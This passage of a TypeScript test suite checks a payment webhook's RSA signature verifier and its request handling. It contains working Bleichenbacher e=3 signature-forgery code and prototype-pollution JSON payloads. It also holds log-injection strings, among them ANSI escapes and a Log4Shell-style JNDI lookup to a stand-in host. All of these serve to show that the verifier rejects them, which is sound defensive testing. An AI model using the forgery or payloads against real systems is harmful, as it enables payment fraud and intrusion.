    ["a signature of ones", () => signedBy(() => new Uint8Array(256).fill(255)), /does not match/],
    [
      "a right signature and the modulus, which is the same number to who only calculates",
      () => {
        const { message, signature } = search((octets) => toNumber(octets) + modulus < 1n << 2048n)
        const larger = toNumber(signature) + modulus
        assert.strictEqual(larger % modulus, toNumber(signature))
        return resigned(message, toOctets(larger, 256))
      },
      /does not match/
    ],
    [
      "a right signature negated",
      () => {
        const message = notify(body)
        const signature = Buffer.from(authorizationOf(message)["signature"]!, "base64")
        return resigned(message, toOctets(modulus - toNumber(signature), 256))
      },
      /does not match/
    ],
    [
      "a right signature with a zero before it",
      () => signedBy((text) => Buffer.concat([zero, sign("RSA-SHA256", text, platformKey)])),
      /does not match/
    ],
    [
      "a right signature without the zero that it starts with",
      () => {
        const { message, signature } = search((octets) => octets[0] === 0)
        return resigned(message, signature.subarray(1))
      },
      /does not match/
    ],
    [
      "a right signature without its last byte",
      () => signedBy((text) => sign("RSA-SHA256", text, platformKey).subarray(0, -1)),
      /does not match/
    ],
    [
      "a right signature with a byte behind it",
      () => signedBy((text) => Buffer.concat([sign("RSA-SHA256", text, platformKey), zero])),
      /does not match/
    ],
    [
      "a right signature twice",
      () => signedBy((text) => Buffer.concat([1, 2].map(() => sign("RSA-SHA256", text, platformKey)))),
      /does not match/
    ],
    [
      "a right signature backwards",
      () => signedBy((text) => sign("RSA-SHA256", text, platformKey).toReversed()),
      /not match/
    ],
    ["a signature of 6 kB", () => signedBy(() => new Uint8Array(5000).fill(1)), /does not match/],

    // By the platform's own key, over the right digest, in any form but the one of RFC 8017.
    [
      "a padding of eight bytes, and what follows the digest is left over",
      () =>
        signedBy((text) => {
          const start = Buffer.concat([Uint8Array.of(0, 1), Buffer.alloc(8, 0xff), zero, digestInfo, digest(text)])
          return encrypted(Buffer.concat([start, Buffer.alloc(256 - start.length, 0x5a)]))
        }),
      /does not match/
    ],
    [
      "a padding of other bytes than ff",
      () => signedBy((text) => encrypted(block([0, 1], 0xfe, zero, digestInfo, digest(text)))),
      /does not match/
    ],
    [
      "the padding of encryption (block type 2)",
      () => signedBy((text) => encrypted(block([0, 2], 0xaa, zero, digestInfo, digest(text)))),
      /does not match/
    ],
    ["block type 0", () => signedBy((text) => encrypted(block([0, 0], 0, digestInfo, digest(text)))), /does not match/],
    [
      "an algorithm without its parameters",
      () => {
        const info = Buffer.from("302f300b0609608648016503040201", "hex")
        return signedBy((text) => encrypted(block([0, 1], 0xff, zero, info, Buffer.from("0420", "hex"), digest(text))))
      },
      /does not match/
    ],
    [
      "lengths in more bytes than needed",
      () => {
        const info = Buffer.from("308131300d060960864801650304020105000420", "hex")
        return signedBy((text) => encrypted(block([0, 1], 0xff, zero, info, digest(text))))
      },
      /does not match/
    ],
    [
      "the name of SHA-512/256 before a SHA-256 digest",
      () => {
        const info = Buffer.from("3031300d060960864801650304020605000420", "hex")
        return signedBy((text) => encrypted(block([0, 1], 0xff, zero, info, digest(text))))
      },
      /does not match/
    ]
  ])

  it.live("(a signature that starts with a zero is taken whole)", () =>
    Effect.gen(function* () {
      const webhook = yield* record(web)
      const { message } = search((octets) => octets[0] === 0)
      assert.strictEqual((yield* webhook.send(message)).status, 200)
    }).pipe(Effect.scoped)
  )
})

describe("forged PKCS#1 v1.5 padding under a key of exponent 3 (Bleichenbacher, 2006)", () => {
  const { publicKey, privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048, publicExponent: 3 })
  const modulus = modulusOf(publicKey)
  const keyStore = {
    platformKeys: [{ keyId: "P3", publicKey: publicKey.export({ format: "pem", type: "spki" }).toString() }]
  }
  const digest = (text: Buffer): Buffer => createHash("sha256").update(text).digest()

  /** The number whose cube is the least that is not below the value. */
  const cubeRoot = (value: bigint): bigint => {
    let low = 0n
    let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1)
    while (low < high) {
      const middle = (low + high) / 2n
      if (middle ** 3n < value) low = middle + 1n
      else high = middle
    }
    return low
  }

  /** What a verifier sees: the block under a signature, calculated by hand. */
  const opened3 = (signature: Uint8Array): Buffer => toOctets(toNumber(signature) ** 3n % modulus, 256)

  /** Where the digest starts, to a parser that passes over the padding; undefined where it is none. */
  const passOver = (block: Buffer): number | undefined => {
    if (block[0] !== 0 || block[1] !== 1) return undefined
    let at = 2
    while (block[at] === 0xff) at++
    return at >= 10 && block[at] === 0 ? at + 1 : undefined
  }

  /** Finds the digest where the padding ends, and does not look whether it stands at the end of the block. */
  const naive = (text: Buffer, signature: Uint8Array): boolean => {
    const block = opened3(signature)
    const at = passOver(block)
    return at !== undefined && block.subarray(at, at + 51).equals(Buffer.concat([digestInfo, digest(text)]))
  }

  /** Padding of eight bytes, the digest, and behind it whatever makes the whole a cube. Needs no private key. */
  const garbageBehind = (text: Buffer): Buffer => {
    const start = Buffer.concat([Buffer.from("0001ffffffffffffffff00", "hex"), digestInfo, digest(text)])
    return toOctets(cubeRoot(toNumber(Buffer.concat([start, Buffer.alloc(256 - start.length)]))), 256)
  }

  /** Finds the digest at the end of the block, and takes the length of the algorithm's parameters as it is written. */
  const naiveOfParameters = (text: Buffer, signature: Uint8Array): boolean => {
    const block = opened3(signature)
    const at = passOver(block)
    return (
      at !== undefined &&
      block.subarray(at, at + garbageHead.length).equals(garbageHead) &&
      block.subarray(-34).equals(Buffer.concat([Buffer.from("0420", "hex"), digest(text)]))
    )
  }

  // SEQUENCE { SEQUENCE { OID sha256, OCTET STRING of 191 bytes }, OCTET STRING of 32 }: parameters that nobody reads.
  const garbageHead = Buffer.from("3081f23081cd06096086480165030402010481bf", "hex")

  /** Garbage in the middle: the first bytes by a cube root, the last ones by a cube root modulo a power of two. */
  const garbageWithin = (text: Buffer): Buffer => {
    const start = Buffer.concat([Buffer.from("0001ffffffffffffffff00", "hex"), garbageHead])
    const end = Buffer.concat([Buffer.from("0420", "hex"), digest(text)])
    const bits = BigInt(end.length * 8)
    const target = toNumber(end)
    let low = 1n
    for (let bit = 1n; bit < bits; bit++) if (((low ** 3n - target) >> bit) & 1n) low |= 1n << bit
    const high = cubeRoot(toNumber(Buffer.concat([start, Buffer.alloc(256 - start.length, 0x7f)])))
    return toOctets(((high >> bits) << bits) | low, 256)
  }

  /** A message with a forged signature. An odd digest is needed where the block has a cube root at both ends. */
  const forged = (forge: (text: Buffer) => Buffer, deceived: (text: Buffer, signature: Buffer) => boolean): Message => {
    for (;;) {
      const message = notify(body, { header: { key_id: "P3" } })
      const text = canonical(message)
      if (digest(text).at(-1)! % 2 === 0) continue
      const signature = forge(text)
      assert.isTrue(deceived(text, signature))
      assert.isFalse(verify("RSA-SHA256", text, publicKey, signature))
      return withAuthorization(
        message,
        encodeURIComponent(JSON.stringify({ ...authorizationOf(message), signature: signature.toString("base64") }))
      )
    }
  }

  const genuine = (): Message => {
    const message = notify(body, { header: { key_id: "P3" } })
    const signature = sign("RSA-SHA256", canonical(message), privateKey)
    assert.isTrue(naive(canonical(message), signature))
    return withAuthorization(
      message,
      encodeURIComponent(JSON.stringify({ ...authorizationOf(message), signature: signature.toString("base64") }))
    )
  }

  const forgeries: ReadonlyArray<readonly [string, () => Message]> = [
    ["garbage behind the digest", () => forged(garbageBehind, naive)],
    ["garbage in the parameters of the algorithm", () => forged(garbageWithin, naiveOfParameters)]
  ]
  for (const adapter of adapters) {
    for (const [name, message] of forgeries) {
      for (const [where, path] of [
        ["one candidate for the path", undefined],
        ["several", ["/hooks/a", "/hooks/b"]]
      ] as const) {
        it.live(`${adapter.name}: ${name}, ${where}`, () =>
          Effect.gen(function* () {
            const webhook = yield* record(adapter, {
              keyStore,
              ...(path === undefined ? {} : { paths: { "va.notification": path } })
            })
            assert.strictEqual((yield* webhook.send(genuine())).status, 200)
            const sent = message()
            assertTellsNothing(yield* webhook.send(sent), 401)
            assertLogged(webhook.log.entries, /the signature does not match \(key "P3"/, sent)
            assert.strictEqual(webhook.events.length, 1)
          }).pipe(Effect.scoped)
        )
      }
    }
  }

  it.effect("neither is taken by the verifier itself, with a single path", () =>
    Effect.gen(function* () {
      const { verify: check } = yield* Verifier.Verifier
      for (const [, message] of forgeries) {
        const { path, headers, body: sent } = message()
        const error = yield* Effect.flip(
          check({ path, authorization: headers["Authorization"], merchId: headers["X-Merch-Id"], body: sent })
        )
        assert.strictEqual(error._tag === "SignatureRejected" && error.reason._tag, "Mismatch")
      }
    }).pipe(Effect.provide(verifier({ tolerance: "off" }, keyStore)))
  )
})

// ---------------------------------------------------------------------------------------------------------
// Much of it
// ---------------------------------------------------------------------------------------------------------

describe("large bodies", () => {
  const limit = 1024 * 1024
  const size = 10 * 1024 * 1024
  const large = JSON.stringify({ data: { account_no: "x".repeat(size) } })

  for (const [how, announced] of [
    ["announced, is refused before any of it is read", true],
    ["not announced, is read to the limit only", false]
  ] as const) {
    it.live(`web: 10 MB, rightly signed and ${how}`, () =>
      Effect.gen(function* () {
        const log = new Log()
        const webhook = Webhook.make({
          notifications: [va],
          handlers: { "va.notification": () => Effect.die(new Error("not to be called")) }
        })
        const handler = WebHandler.make(webhook, Layer.merge(verifier(), log.layer))
        const message = notify(large)
        const chunk = 16 * 1024
        let read = 0
        let cancelled = false
        const stream = new ReadableStream<Uint8Array>(
          {
            pull: (controller) => {
              if (read >= message.body.length) return controller.close()
              controller.enqueue(message.body.subarray(read, read + chunk))
              read += chunk
            },
            cancel: () => {
              cancelled = true
            }
          },
          { highWaterMark: 0 }
        )
        const response = yield* Effect.promise(() =>
          handler.fetch(
            new Request(`https://merchant.test${va.path}`, {
              method: "POST",
              headers: announced
                ? { ...message.headers, "Content-Length": String(message.body.length) }
                : message.headers,
              body: stream,
              duplex: "half"
            } as RequestInit)
          )
        )
        assert.strictEqual(response.status, 413)
        assert.strictEqual(yield* Effect.promise(() => response.text()), "{}")
        assertLogged(log.entries, /the body is larger than 1048576 bytes/, message)
        if (announced) assert.strictEqual(read, 0)
        else {
          assert.isAtLeast(read, limit)
          assert.isAtMost(read, limit + 4 * chunk)
          assert.isTrue(cancelled)
        }
        yield* Effect.promise(handler.dispose)
      })
    )
  }

  for (const [how, headers] of [
    ["announced", { "Content-Length": large.length }],
    ["in chunks", { "Transfer-Encoding": "chunked" }]
  ] as const) {
    it.live(`node: 10 MB, rightly signed, ${how}, is not read to its end`, () =>
      Effect.gen(function* () {
        const log = new Log()
        const webhook = Webhook.make({
          notifications: [va],
          handlers: { "va.notification": () => Effect.die(new Error("not to be called")) }
        })
        const handler = Node.make(webhook, Layer.merge(verifier(), log.layer))
        let accepted: Socket | undefined
        let readAtAnswer = 0
        const server = yield* Effect.acquireRelease(
          Effect.promise(
            () =>
              new Promise<Server>((resolve) => {
                const listening = createServer((request, response) => {
                  // What the kernel has handed to Node by the time that the answer is given.
                  response.once("finish", () => (readAtAnswer = accepted!.bytesRead))
                  handler.listener(request, response)
                })
                listening.on("connection", (socket) => (accepted = socket))
                listening.listen(0, "127.0.0.1", () => resolve(listening))
              })
          ),
          (listening) =>
            Effect.promise(async () => {
              listening.closeAllConnections()
              await new Promise((resolve) => listening.close(resolve))
              await handler.dispose()
            })
        )
        const message = notify(large)
        const chunked = "Transfer-Encoding" in headers
        const received = yield* raw((server.address() as AddressInfo).port, (socket) => {
          socket.write(head(message.path, { ...message.headers, ...headers }))
          if (chunked) socket.write(`${message.body.length.toString(16)}\r\n`)
          socket.write(message.body)
          if (chunked) socket.write("\r\n0\r\n\r\n")
        })
        // A sender that goes on sending may be cut off before it has read the answer.
        if (received !== "") {
          assert.strictEqual(statusOf(received), 413)
          assert.isTrue(received.endsWith("\r\n\r\n{}"))
        }
        assertLogged(log.entries, /the body is larger than 1048576 bytes/, message)
        if (chunked) assert.isAbove(readAtAnswer, limit)
        // The rest is what the stream and its parser have read ahead.
        assert.isBelow(readAtAnswer, chunked ? 2 * limit : limit)
      }).pipe(Effect.scoped)
    )
  }
})

describe("genuine bodies that nobody would write", () => {
  const deep = 100_000
  const bodies: ReadonlyArray<readonly [name: string, text: string]> = [
    ["100 000 arrays", "[".repeat(deep) + "]".repeat(deep)],
    ["100 000 arrays that nothing closes", "[".repeat(deep)],
    ["100 000 objects", '{"a":'.repeat(deep) + "1" + "}".repeat(deep)],
    ["100 000 objects under data", `{"type":"MERCH","data":${'{"a":'.repeat(deep)}1${"}".repeat(deep)}}`],
    [
      "100 000 arrays in a known field",
      `{"data":{"account_no":"1","currencies":${"[".repeat(deep)}${"]".repeat(deep)}}}`
    ],
    ["100 000 arrays of numbers that a double would lose", `${"[".repeat(deep)}0.10${"]".repeat(deep)}`],
    ["100 000 arrays and objects by turns", '[{"__proto__":'.repeat(deep / 2) + "1" + "}]".repeat(deep / 2)]
  ]
  for (const adapter of adapters) {
    for (const [name, text] of bodies) {
      for (const path of [va.path, "/hooks/all"]) {
        it.live(`${adapter.name}: ${name}, to ${path}, are an unknown event, and no stack overflows`, () =>
          Effect.gen(function* () {
            const webhook = yield* record(adapter)
            const answer = yield* webhook.send(notify(text, { path }))
            assert.deepStrictEqual([answer.status, answer.body], [200, "{}"])
            assert.deepStrictEqual(
              webhook.unknown.map(({ detail, raw: parsed }) => [detail, parsed]),
              [["the body is nested deeper than 64 levels", undefined]]
            )
            assert.deepStrictEqual([webhook.events, webhook.log.entries], [[], []])
            assertUnpolluted()
          }).pipe(Effect.scoped)
        )
      }
    }

    it.live(`${adapter.name}: of a doubled key the last counts, in all that the handler sees`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(adapter)
        const text =
          '{"data":{"account_no":"decoy"},"type":"X","data":{"account_no":"1","account_no":"2"},"type":"MERCH"}'
        assert.strictEqual((yield* webhook.send(notify(text))).status, 200)
        const event = webhook.events[0]!
        assert.deepStrictEqual<unknown>(event.data, { account_no: "2" })
        assert.deepStrictEqual(event.raw, JSON.parse(text))
        assert.strictEqual(event.type, "MERCH")
        // What was signed is the text with both.
        assert.strictEqual(Buffer.from(event.verified.body).toString(), text)
      }).pipe(Effect.scoped)
    )

    const polluting = [
      '{"__proto__":{"polluted":1},"data":{"account_no":"1"}}',
      '{"data":{"account_no":"1","__proto__":{"polluted":1,"account_no":"3"}}}',
      '{"data":{"account_no":"1","constructor":{"prototype":{"polluted":1}}}}',
      '{"data":{"account_no":"1","currencies":["EUR",{"__proto__":{"polluted":1}}]}}',
      '{"data":{"account_no":"1","x":{"y":[{"__proto__":{"polluted":1}}]},"prototype":{"polluted":1}}}',
      '{"data":{"account_no":"1","toString":"x","valueOf":1,"hasOwnProperty":2,"then":3,"toJSON":4}}',
      '{"data":{"__proto__":{"account_no":"1"}}}',
      '{"__proto__":{"data":{"account_no":"1"}}}',
      '{"type":"MERCH","data":{"account_no":"1","amount":0.10,"__proto__":{"polluted":0.10}}}',
      '{"__proto__":null,"data":{"account_no":"1","__proto__":null,"constructor":null}}'
    ]
    /** Nothing in it inherits from anything that came, or is called as if it did. */
    const assertPlain = (value: unknown): void => {
      if (typeof value !== "object" || value === null) return
      assert.include([Object.prototype, Array.prototype, null], Object.getPrototypeOf(value))
      assert.isFalse(Object.hasOwn(value, "__proto__"))
      for (const member of Object.values(value)) assertPlain(member)
    }

    it.live(`${adapter.name}: __proto__ and constructor pollute nothing, and nothing is inherited from them`, () =>
      Effect.gen(function* () {
        const webhook = yield* record(adapter)
        for (const path of [va.path, "/hooks/all"]) {
          for (const text of polluting) {
            assert.strictEqual((yield* webhook.send(notify(text, { path }))).status, 200, text)
            assertUnpolluted()
            assert.isUndefined(({} as { polluted?: unknown }).polluted)
          }
        }
        assert.strictEqual(webhook.events.length + webhook.unknown.length, 2 * polluting.length)
        for (const { data } of webhook.events) {
          assertPlain(data)
          assert.include(["1", undefined], (data as { account_no?: unknown }).account_no)
        }
        assert.deepStrictEqual(webhook.log.entries, [])
      }).pipe(Effect.scoped)
    )
  }
})

describe("the log", () => {
  const strange: ReadonlyArray<readonly [name: string, text: string]> = [
    ["LF", "K1\nPayKKa notification of unknown kind acknowledged"],
    ["CR LF", "K1\r\nINFO all is well"],
    ["CR, to write over the line", "K1\rINFO all is well"],
    ["ANSI colours", "K1\u001b[31mred\u001b[0m"],
    ["ANSI that clears the screen", "\u001b[2J\u001b[H"],
    ["a terminal's title", "\u001b]0;owned\u0007"],
    ["eight-bit ANSI", "K1\u009b2J"],
    ["NEL", "K1\u0085INFO"],
    ["U+2028", "K1\u2028INFO"],
    ["U+2029", "K1\u2029INFO"],
    ["text that runs backwards", "K1\u202eOFNI"],
    ["isolated directions", "K1\u2066INFO\u2069"],
    ["invisible characters", "K\u200b1\u00ad\ufeff"],
    ["NUL", "K1\u0000INFO"],
    ["backspaces", "K1\b\b\b"],
    ["DEL", "K1\u007f"],
    ["half a character", "K1\ud83d"],
    ["quotes and backslashes", 'K1", path "/x\\'],
    ["a lookup of a logger", "${jndi:ldap://evil.test/a}"],
    ["a format", "%s %d %o %n"],
    ["8000 characters", "K".repeat(6000)]
  ]
  const quotable = /refused: (?:key_id|sign_type|nonce|the signature|header)/

  eachRefused(
    strange.flatMap(([name, text]): ReadonlyArray<Attack> => {
      // A header of half a character has an escape for it, as JSON.stringify writes it.
      const signer = "merchant"
      return [
        [`${name} in key_id`, () => notify(body, { signer, header: { key_id: text } }), quotable],
        [`${name} in sign_type`, () => notify(body, { signer, header: { sign_type: text } }), quotable],
        [`${name} in the nonce`, () => notify(body, { signer, header: { nonce: `${text}......` } }), quotable]
      ]
    })
  )

  it.live("odd characters in the path, from a server that lets them pass", () =>
    Effect.gen(function* () {
      const log = new Log()
      const webhook = yield* Webhook.make({
        notifications: [va],
        handlers: { "va.notification": () => Effect.die(new Error("not to be called")) }
      }).pipe(Effect.provide(verifier()))
      for (const [, text] of strange) {
        const sent = notify(body, { signer: "merchant" })
        const answer = yield* webhook
          .receive({
            path: `/${text}`,
            authorization: sent.headers["Authorization"],
            merchId: sent.headers["X-Merch-Id"],
            body: sent.body
          })
          .pipe(Effect.provide(log.layer))
        assert.deepStrictEqual([answer.status, answer.body], [401, "{}"])
        assertLogged(log.entries.splice(0), /the signature does not match \(key/, sent)
      }
    })
  )

  it.live("node: a path of 12 000 characters is not written out", () =>
    Effect.gen(function* () {
      const webhook = yield* record(node)
      const message = notify(body, { path: `/${"x".repeat(12_000)}`, signedPath: "/y" })
      const received = yield* raw(webhook.port!, (socket) => socket.write(whole(message, { Connection: "close" })))
      assert.strictEqual(statusOf(received), 401)
      assertLogged(webhook.log.entries, /the signature does not match/, message)
    }).pipe(Effect.scoped)
  )

  it("(the vectors' platform key is the one that these tests attack)", () => {
    const [vector] = vectors.filter(({ signer }) => signer === "platform")
    assert.strictEqual(vector!.key_id, platform.key_id)
    assert.strictEqual(keys.platformKeys![0]!.keyId, platform.key_id)
  })
})
